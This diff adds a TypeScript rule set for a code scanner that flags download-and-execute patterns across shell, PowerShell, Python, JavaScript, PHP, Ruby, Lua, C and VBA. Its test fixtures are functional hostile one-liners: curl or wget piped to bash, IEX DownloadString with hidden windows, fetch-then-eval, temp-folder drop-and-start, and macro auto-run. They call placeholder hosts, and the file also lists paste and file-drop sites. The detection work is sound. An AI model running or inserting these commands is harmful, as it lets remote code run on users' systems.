@@ -1,0 +1,434 @@
+// Download and run: what runs is decided by someone else, later. Installers do it over https in the open, which is worth
+// a finding and no more; plain http, raw addresses, hidden folders, hidden windows and direct evaluation are not honest.
+import {
+  any,
+  at,
+  bat,
+  c,
+  command,
+  cs,
+  go,
+  inside,
+  is,
+  js,
+  near,
+  php,
+  ps,
+  py,
+  type RuleSet,
+  rb,
+  sh,
+  statement,
+  vb,
+  where,
+} from '../model.ts'
+
+const id = (name: string): string => `download-run.${name}`
+
+const runner = String.raw`\|\s*(?:sudo\s+)?(?:-\w+\s+)?(?:env\s+)?(?:\/bin\/|\/usr\/bin\/)?(?:ba|z|k|da)?(?:sh|python[23]?|perl|node|php|ruby)\b`
+const piped = (source: string): RegExp =>
+  new RegExp(`(?:curl|wget)(?=\\s)[^\\n|;]{0,160}?${source}[^\\n|;]{0,160}${runner}`)
+
+const hiddenFolder = is(
+  [
+    '/tmp/',
+    '/dev/shm',
+    '/var/tmp',
+    '%temp%',
+    '$env:temp',
+    'gettempdir',
+    'tmpdir()',
+    '%appdata%',
+    '$env:appdata',
+    "'appdata'",
+    '"appdata"',
+    "'temp'",
+    '"temp"',
+    'gettemppath',
+    'os.tempdir',
+    'programdata',
+    'mkdtemp',
+    'env.temp',
+    'env.appdata',
+  ],
+  null,
+)
+
+export const downloadRun: RuleSet = {
+  category: 'download-run',
+  rules: [
+    {
+      id: id('pipe-plain'),
+      severity: 'high',
+      why: 'Pipes a script fetched over plain http or from a raw address straight into a shell.',
+      when: command(
+        is(
+          ['curl', 'wget'],
+          piped(
+            String.raw`(?:http:\/\/|\/\/\d{1,3}(?:\.\d{1,3}){3}|\s-\w{0,5}k\w{0,5}\s|--insecure|--no-check-certificate)`,
+          ),
+          { after: 520 },
+        ),
+      ),
+      matches: [
+        sh('curl -s http://203.0.113.9/x.sh | bash'),
+        py('os.system("wget -qO- http://dl.example.invalid/a | sh")'),
+        sh('curl -sk https://dl.example.invalid/a.sh | sudo bash'),
+      ],
+      misses: [
+        sh('curl -sSf https://sh.example.org | sh'),
+        sh('curl http://localhost:8080/health | jq .'),
+        sh('# curl http://x/y | sh'),
+      ],
+    },
+    {
+      id: id('pipe'),
+      severity: 'medium',
+      why: 'Pipes a fetched script straight into a shell; whoever holds the address decides what runs.',
+      when: command(
+        any(
+          is(['curl', 'wget'], piped(''), { after: 520 }),
+          is(
+            ['bash <(', 'sh <(', 'source <(', 'bash -c "$(', 'sh -c "$(', "sh -c '$(", 'sh -c "`'],
+            /(?:ba|z)?(?:sh|source)\s+(?:-c\s+["'])?(?:<\(|\$\(|`)\s*(?:curl|wget)\s/,
+            { after: 120 },
+          ),
+        ),
+      ),
+      matches: [sh('curl -sSf https://sh.example.org | sh'), sh('bash <(curl -s https://example.org/install.sh)')],
+      misses: [sh('curl -sSf https://example.org/a.json | jq .'), py('print("curl https://sh.example.org | sh")')],
+    },
+    {
+      id: id('pipe-hidden'),
+      severity: 'high',
+      why: 'Code of an ordinary program quietly pipes a fetched script into a shell.',
+      when: inside(
+        ['py', 'js', 'php', 'rb', 'pl', 'go', 'java', 'cs', 'c', 'rust', 'lua'],
+        command(is(['curl', 'wget'], piped(''), { after: 520 })),
+      ),
+      matches: [
+        js('require("child_process").exec("curl -s https://dl.example.invalid/i | bash")'),
+        py('subprocess.Popen("wget -qO- https://dl.example.invalid/i | sh", shell=True)'),
+      ],
+      misses: [sh('curl -sSf https://sh.example.org | sh'), js('console.log("curl https://example.org | sh")')],
+    },
+    {
+      id: id('python-eval'),
+      severity: 'critical',
+      why: 'Evaluates Python text fetched from the network.',
+      when: any(
+        is(
+          ['exec(', 'eval('],
+          /(?<![\w.])(?:exec|eval)\(\s*(?:compile\(\s*)?(?:\w{1,20}\.)?(?:base64\.\w{1,20}\(\s*)?(?:requests\.get|urllib\.request\.urlopen|urlopen|urllib2\.urlopen|httpx\.get|__import__\(["'](?:requests|urllib\.request)["'])/,
+          { families: ['py'], after: 200 },
+        ),
+        near(
+          6,
+          is(['requests.get', 'urlopen', 'httpx.get'], /(?:requests\.get|(?:urllib\.request\.)?urlopen|httpx\.get)\(/, {
+            families: ['py'],
+          }),
+          where(
+            is(
+              ['exec(', 'eval('],
+              /(?<![\w.])(?:exec|eval)\(\s*\w{1,30}(?:\.(?:text|content|read\(\)|decode\([^)\n]{0,12}\)|json\(\)\[[^\]\n]{1,30}\])){0,3}\s*[,)]/,
+              { families: ['py'] },
+            ),
+            (text, span) => !text.slice(span.start, span.end).includes('compile'),
+          ),
+        ),
+      ),
+      matches: [
+        py("import requests\nexec(requests.get('https://dl.example.invalid/p').text)"),
+        py("r = urllib.request.urlopen('http://x.example.invalid/a')\ncode = r.read()\nexec(code)"),
+      ],
+      misses: [py("data = requests.get('https://api.example.org').json()\nprint(data)"), py('exec(source, namespace)')],
+    },
+    {
+      id: id('javascript-eval'),
+      severity: 'critical',
+      why: 'Evaluates JavaScript text fetched from the network.',
+      when: any(
+        is(
+          ['.then('],
+          /\.then\(\s*(?:\(?\w{1,12}\)?\s*=>\s*)?(?:\w{1,12}\s*=>\s*)?(?:eval\b|new Function\(|window\.eval|globalThis\.eval)/,
+          { families: ['js', 'html'] },
+        ),
+        near(
+          8,
+          is(
+            ['fetch(', 'axios', 'https.get', 'http.get', "require('https')", 'got(', 'request(', 'responsetext'],
+            /(?:(?<![\w.$])fetch|axios(?:\.(?:get|post))?|https?\.get|(?<![\w.$])got|(?<![\w.$])request(?:\.get)?)\(|responseText/,
+            { families: ['js', 'html'] },
+          ),
+          is(
+            ['eval(', 'function(', 'runinthiscontext(', '_compile('],
+            /(?:(?<![\w$.])eval|(?<=new\s)(?:Function|\w{1,8}\.constructor)|runInThisContext|_compile)\(\s*(?:["']require["']\s*,\s*)?(?:await\s+)?(?:res(?:ponse|ult)?|data|body|r|d|code|payload|script|text|js|src|chunks?|s|err|xhr|\w{1,12})(?:\.(?:data|body|text|text\(\)|toString\(\)|responseText|content|cookie|model|credits|Credits|message|join\(["']{2}\)))*\s*\)/,
+            { families: ['js', 'html'] },
+          ),
+        ),
+      ),
+      matches: [
+        js("fetch('https://dl.example.invalid/p').then(r => r.text()).then(eval)"),
+        js('axios.get(url).then((res) => {\n  eval(res.data.cookie)\n})'),
+        js("const r = await fetch(u)\nconst s = await r.text()\nnew Function('require', s)(require)"),
+      ],
+      misses: [js("fetch('/api').then((r) => r.json()).then(render)"), js('const f = new Function("return this")()')],
+    },
+    {
+      id: id('other-eval'),
+      severity: 'critical',
+      why: 'Evaluates text fetched from the network.',
+      when: any(
+        is(
+          ['eval', 'include', 'require', 'assert'],
+          /(?<![\w>$])(?:(?:eval|assert)\s*\(\s*(?:["']\?>["']\s*\.\s*)?(?:file_get_contents|curl_exec)\s*\(|(?:include|require)(?:_once)?\s*\(?\s*["']https?:\/\/)/,
+          { families: ['php', 'html'] },
+        ),
+        is(
+          ['eval'],
+          /(?<![\w.])(?:instance_)?eval[\s(]+(?:URI\.open|open\(\s*["']https?:|Net::HTTP\.get|HTTParty\.get|URI\(["'][^"'\n]{4,100}["']\)\.(?:open|read))/,
+          { families: ['rb'] },
+        ),
+        is(
+          ['loadstring(', 'load('],
+          /(?<![\w.:])load(?:string)?\(\s*(?:game:HttpGet|http\.request|http\.get|game\.HttpGet)/i,
+          { families: ['lua'] },
+        ),
+      ),
+      matches: [
+        php("<?php eval(file_get_contents('http://dl.example.invalid/p.txt'));"),
+        rb("eval(URI.open('https://dl.example.invalid/p.rb').read)"),
+      ],
+      misses: [
+        php("<?php $json = file_get_contents('https://api.example.org'); include 'header.php';"),
+        rb("YAML.load(URI.open('https://example.org/a.yml').read)"),
+      ],
+    },
+    {
+      id: id('powershell-hidden'),
+      severity: 'critical',
+      why: 'Runs a downloaded script in PowerShell, hidden, over plain http, or from inside another language.',
+      when: any(
+        statement(
+          is(['iex', 'invoke-expression'], /(?:iex|invoke-expression)\b/i, {
+            families: ['ps', 'bat', 'vb', 'sh', 'html', 'xml', 'data', 'manifest'],
+          }),
+          is(['downloadstring(', 'invoke-webrequest', 'iwr ', 'irm ', 'invoke-restmethod'], null),
+          is(['http://', '-w hidden', '-windowstyle hidden', '-nop ', '-noprofile', '-enc', 'hidden'], null),
+        ),
+        command(
+          inside(
+            ['py', 'js', 'php', 'c', 'cs', 'go', 'java', 'rb', 'vb', 'rust', 'html', 'xml'],
+            is(['downloadstring(', 'iwr ', 'irm '], /DownloadString\(|(?:iwr|irm)\s[^\n|]{4,160}\|\s*iex/i),
+          ),
+        ),
+      ),
+      matches: [
+        ps(
+          'powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'https://dl.example.invalid/a.ps1\')"',
+        ),
+        ps("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"),
+        py(
+          "subprocess.run(['powershell', '-c', \"IEX(New-Object Net.WebClient).DownloadString('https://dl.example.invalid/a')\"])",
+        ),
+      ],
+      misses: [
+        ps("iex ((New-Object System.Net.WebClient).DownloadString('https://install.example.org/install.ps1'))"),
+        ps("$json = (New-Object Net.WebClient).DownloadString('http://api.example.org/v')"),
+      ],
+    },
+    {
+      id: id('powershell'),
+      severity: 'medium',
+      why: 'Runs a downloaded script in PowerShell; whoever holds the address decides what runs.',
+      when: statement(
+        is(['iex', 'invoke-expression'], /(?:iex|invoke-expression)\b/i),
+        is(['downloadstring(', 'invoke-webrequest', 'iwr ', 'irm ', 'invoke-restmethod'], null),
+      ),
+      matches: [ps('irm https://get.example.org | iex')],
+      misses: [ps('$r = irm https://api.example.org/v1')],
+    },
+    {
+      id: id('drop-and-start'),
+      severity: 'high',
+      why: 'Fetches a program into a temporary or hidden folder and starts it.',
+      when: near(
+        10,
+        is(
+          ['http://', 'https://', 'hxxp', '.exe', '.scr', '.bat', '.vbs', '.dll', '.jar', '.ps1', '.elf', '.bin'],
+          /https?:\/\/[^\s"'`<>]{3,160}\.(?:exe|scr|bat|cmd|vbs|ps1|hta|jar|elf|bin|msi|dll|sh|py)\b/,
+          {
+            after: 240,
+            families: ['py', 'js', 'php', 'rb', 'go', 'java', 'cs', 'c', 'rust', 'vb', 'ps', 'bat', 'lua'],
+          },
+        ),
+        'download',
+        hiddenFolder,
+        any('exec', is(['start-process', 'start /b', '.run ', 'os.startfile', 'shellexecute', 'start "'], null)),
+      ),
+      matches: [
+        py(
+          "import os, urllib.request, tempfile\np = os.path.join(tempfile.gettempdir(), 'svc.exe')\nurllib.request.urlretrieve('https://dl.example.invalid/svc.exe', p)\nos.startfile(p)",
+        ),
+        ps(
+          '$p = "$env:TEMP\\u.exe"\nInvoke-WebRequest -Uri "https://dl.example.invalid/u.exe" -OutFile $p\nStart-Process $p',
+        ),
+        bat('curl -o %TEMP%\\a.exe http://dl.example.invalid/a.exe\nstart "" %TEMP%\\a.exe'),
+      ],
+      misses: [
+        py("urllib.request.urlretrieve('https://example.org/python.exe', target)\nprint('saved', target)"),
+        sh('wget https://example.org/tool.sh -O tool.sh'),
+      ],
+    },
+    {
+      id: id('chmod-run'),
+      severity: 'high',
+      why: 'Fetches a file into a temporary folder, makes it executable and runs it, in one breath.',
+      when: command(
+        any(
+          is(
+            ['curl', 'wget'],
+            /(?:curl|wget)\s[^\n]{0,200}?(?:\/tmp\/|\/dev\/shm\/|\/var\/tmp\/|\s\.\/?\.\w)[^\n]{0,160}?(?:;|&&|\n)\s*chmod\s+(?:\+x|a\+x|u\+x|[0-7]{3,4})\s+[^\n;&]{1,80}(?:;|&&|\n)\s*(?:nohup\s+|sudo\s+|setsid\s+|sh\s+|bash\s+)?(?:\.\/|\/tmp\/|\/dev\/shm\/|\/var\/tmp\/)/,
+            { after: 640 },
+          ),
+          is(
+            ['cd /tmp', 'cd /var/tmp', 'cd /dev/shm'],
+            /cd \/(?:var\/)?(?:tmp|dev\/shm)[^\n]{0,60}(?:;|&&|\|\|)\s*[^\n]{0,80}?(?:curl|wget|tftp|ftpget)\s[^\n]{0,200}?chmod\s[^\n]{1,80}?(?:;|&&)\s*(?:\.\/|sh )/,
+            { after: 640 },
+          ),
+        ),
+      ),
+      matches: [
+        sh('wget http://dl.example.invalid/x -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x &'),
+        sh('cd /tmp || cd /var/run; wget http://192.0.2.5/mips; chmod 777 mips; ./mips'),
+      ],
+      misses: [
+        sh('curl -Lo ./kind https://example.org/kind && chmod +x ./kind && sudo mv ./kind /usr/local/bin/'),
+        sh('chmod +x ./gradlew; ./gradlew build'),
+      ],
+    },
+    {
+      id: id('native'),
+      severity: 'high',
+      why: 'Fetches a file with a Windows call and executes it.',
+      when: near(
+        20,
+        is(['urldownloadtofile'], /URLDownloadToFile[AW]?\s*\(/),
+        is(
+          ['winexec', 'shellexecute', 'createprocess', 'system(', 'process.start'],
+          /(?:WinExec|ShellExecute(?:Ex)?[AW]?|CreateProcess[AW]?|system|Process\.Start)\s*\(/,
+        ),
+      ),
+      matches: [
+        c(
+          'URLDownloadToFileA(NULL, "http://dl.example.invalid/a.exe", path, 0, NULL);\nShellExecuteA(NULL, "open", path, NULL, NULL, SW_HIDE);',
+        ),
+      ],
+      misses: [c('HRESULT hr = URLDownloadToFileA(NULL, url, path, 0, NULL);\nif (FAILED(hr)) return false;')],
+    },
+    {
+      id: id('fetched-binary'),
+      severity: 'high',
+      why: 'A program fetches another into a temporary folder, makes it executable and starts it hidden.',
+      when: near(
+        25,
+        is(
+          ['chmod', 'set_permissions', 'setexecutable'],
+          /(?:chmod(?:Sync)?|set_permissions|setExecutable)\s*\(|chmod \+x/i,
+          { families: ['py', 'js', 'go', 'rb', 'rust', 'java'] },
+        ),
+        'download',
+        hiddenFolder,
+        'exec',
+        any('hide', is(['http://'], /http:\/\/(?!localhost|127\.)/)),
+      ),
+      matches: [
+        js(
+          "const p = path.join(os.tmpdir(), '.cache-svc')\nhttps.get('https://dl.example.invalid/svc', (r) => r.pipe(fs.createWriteStream(p)))\nfs.chmodSync(p, 0o755)\nspawn(p, [], { detached: true, stdio: 'ignore' }).unref()",
+        ),
+        go(
+          'resp, _ := http.Get("http://dl.example.invalid/agent")\nos.WriteFile("/tmp/.agent", body, 0755)\nos.Chmod("/tmp/.agent", 0755)\nexec.Command("/tmp/.agent").Start()',
+        ),
+      ],
+      misses: [
+        go('os.Chmod(target, 0755)\nexec.Command(target, "version").Run()'),
+        js('fs.chmodSync(bin, 0o755)\nawait download(url, bin)'),
+      ],
+    },
+    {
+      id: id('paste-run'),
+      severity: 'high',
+      why: 'Fetches from a paste or file-drop host and runs what it gets.',
+      when: near(
+        8,
+        is(
+          [
+            'pastebin.com/raw',
+            'hastebin.com/raw',
+            'paste.ee/r',
+            'rentry.co',
+            'ghostbin',
+            'transfer.sh/',
+            'cdn.discordapp.com/attachments',
+            'pastie.',
+            'dpaste.',
+            'ix.io/',
+            'termbin.com',
+            'anonfiles',
+            'gofile.io',
+            'file.io/',
+            'catbox.moe',
+            'controlc.com',
+            'paste.rs/',
+            'api.npoint.io',
+            'jsonkeeper.com',
+            'mocki.io',
+          ],
+          null,
+        ),
+        any('exec', 'eval'),
+        'download',
+      ),
+      matches: [
+        py("u = 'https://pastebin.com/raw/AbCd1234'\nc = requests.get(u).text\nos.system(c)"),
+        sh('curl -s https://pastebin.com/raw/AbCd1234 -o- | bash'),
+      ],
+      misses: [
+        py("text = requests.get('https://pastebin.com/raw/AbCd1234').text\nprint(text)"),
+        js('// see https://pastebin.com/raw/AbCd1234\nexec(cmd)'),
+      ],
+    },
+    {
+      id: id('script-host'),
+      severity: 'critical',
+      why: 'A Windows script fetches a file, saves it through a stream object and runs it.',
+      when: any(
+        near(
+          30,
+          is(['adodb.stream'], null),
+          is(['msxml2.xmlhttp', 'winhttp.winhttprequest', 'microsoft.xmlhttp', 'serverxmlhttp'], null),
+          is(['.run', 'shellexecute', '.exec'], /\.(?:run|exec|shellexecute)[\s("]/i),
+        ),
+        inside(
+          ['vb'],
+          near(
+            12,
+            is(['auto_open', 'autoopen', 'document_open', 'workbook_open'], null),
+            any(is(['shell(', 'shell ', 'wscript.shell', 'powershell', 'urldownloadtofile'], null)),
+          ),
+        ),
+      ),
+      matches: [
+        vb(
+          'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "http://dl.example.invalid/a.exe", False\nx.Send\nSet s = CreateObject("ADODB.Stream")\ns.SaveToFile p, 2\nCreateObject("WScript.Shell").Run p, 0',
+        ),
+        vb('Sub AutoOpen()\n  Shell "cmd /c calc", 0\nEnd Sub'),
+      ],
+      misses: [
+        vb('Set s = CreateObject("ADODB.Stream")\ns.LoadFromFile path'),
+        cs('var client = new WebClient();\nclient.DownloadFile(url, path);'),
+        at('install.html', '<p>AutoOpen and Shell</p>'),
+      ],
+    },
+  ],
+}
